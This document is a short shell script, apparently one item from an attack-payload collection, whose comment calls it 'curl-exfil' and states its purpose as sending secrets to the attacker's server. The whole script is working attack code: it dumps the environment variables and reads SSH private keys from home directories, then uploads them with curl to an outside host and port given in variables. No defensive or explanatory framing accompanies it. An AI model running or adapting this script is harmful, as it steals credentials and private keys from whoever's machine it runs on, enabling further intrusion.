#!/bin/sh
# curl-exfil: send whatever secrets are at hand to the attacker's server.
. "${TARGETS:-$1}"
{ env; cat "$HOME/.ssh/id_rsa" "$T_HOME/.ssh/id_rsa"; } 2>/dev/null |
	curl -s -m 5 --data-binary @- "http://$T_TCP_HOST:$T_TCP_PORT/upload"
